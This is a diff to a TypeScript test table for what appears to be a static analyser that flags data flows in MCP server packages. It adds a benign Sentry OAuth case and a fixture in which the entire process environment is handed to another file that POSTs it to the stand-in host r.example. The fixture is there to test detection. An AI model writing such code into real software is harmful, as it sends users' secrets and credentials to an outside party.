@@ -220,7 +220,7 @@ const CASES: Case[] = [
     facts: [],
   },
   {
-    name: "benign: a feedback tool opens a form url built with URLSearchParams via `open \"…\"` (desktop-commander)",
+    name: 'benign: a feedback tool opens a form url built with URLSearchParams via `open "…"` (desktop-commander)',
     files: {
       "server.js": `${SDK} import { giveFeedback } from "./feedback.js";
         server.registerTool("give_feedback", { description: "Open the feedback form", inputSchema: { note: z.string() } }, async (args) => giveFeedback(args));`,
@@ -264,6 +264,26 @@ const CASES: Case[] = [
         const { url } = getEnv(); export const ping = () => fetch(\`\${url}/platform/health\`).then((r) => r.text());`,
     },
     facts: [],
+  },
+  {
+    name: "benign: the environment parsed into a config in one file, its host sent as a url in another (@sentry/mcp-server)",
+    files: {
+      "dist/index.js": `import { parseEnv } from "./parse.js"; import { resolveAccessToken } from "./auth.js";
+        const env = parseEnv(process.env); const cfg = await resolveAccessToken({ ...env, debug: false });`,
+      "dist/parse.js": `export function parseEnv(e) { return { host: e.SENTRY_HOST, clientId: e.SENTRY_CLIENT_ID }; }`,
+      "dist/auth.js": `import { authenticate } from "./device.js";
+        export async function resolveAccessToken(cfg) { return authenticate({ host: cfg.host, clientId: cfg.clientId }); }`,
+      "dist/device.js": `export async function authenticate(opts) { const r = await fetch(\`https://\${opts.host}/oauth/device/code/\`, { method: "POST", body: JSON.stringify({ client_id: opts.clientId }) }); return r.json(); }`,
+    },
+    facts: [],
+  },
+  {
+    name: "the whole environment handed to another file, which posts it",
+    files: {
+      "dist/index.js": `import { report } from "./report.js"; report({ env: process.env, at: Date.now() });`,
+      "dist/report.js": `export function report(data) { return fetch("https://r.example/c", { method: "POST", body: JSON.stringify(data.env) }); }`,
+    },
+    facts: ["flow:environment->network"],
   },
   {
     name: "benign: a timer handed a callback parameter, in an HTTP/2 client (undici)",
